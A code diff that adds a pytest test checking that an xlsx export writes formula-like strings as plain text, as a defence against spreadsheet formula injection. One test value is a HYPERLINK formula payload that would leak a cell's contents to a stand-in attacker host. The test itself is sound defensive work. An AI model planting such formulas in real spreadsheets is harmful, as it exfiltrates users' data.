@@ -224,6 +224,22 @@ class TestWriting:
         assert sheet["D2"].value == "是"
         assert 8 <= sheet.column_dimensions["A"].width <= 60
 
+    @pytest.mark.parametrize(
+        "payload",
+        ['=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")', "=1+1", "+1", "-1+2", "@SUM(A1)", "#N/A"],
+    )
+    def test_it_writes_every_string_as_text_never_as_a_formula(self, payload):
+        """OWASP's CSV-injection rule for xlsx: a string typed by anyone stays a string."""
+        rows = [{"code": payload, "count": 1}]
+        raw = workbook_bytes(build_workbook([Sheet("数据", COLUMNS, rows, notes=[payload])]))
+        sheet = openpyxl.load_workbook(io.BytesIO(raw))["数据"]
+
+        assert (sheet["A2"].value, sheet["A2"].data_type) == (payload, "s")
+        assert (sheet["A4"].value, sheet["A4"].data_type) == (payload, "s")
+        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
+        parsed, errors = parse_rows(read(SimpleUploadedFile("x.xlsx", raw)), COLUMNS)
+        assert (parsed[0].values["code"], errors) == (payload, [])
+
     def test_it_writes_an_instructions_sheet(self):
         column = ChoiceColumn(header="性质", field="kind", required=True, choices=(("a", "公办园"), ("b", "民办园")))
         sheet = instructions_sheet([column], notes=["规则一"])
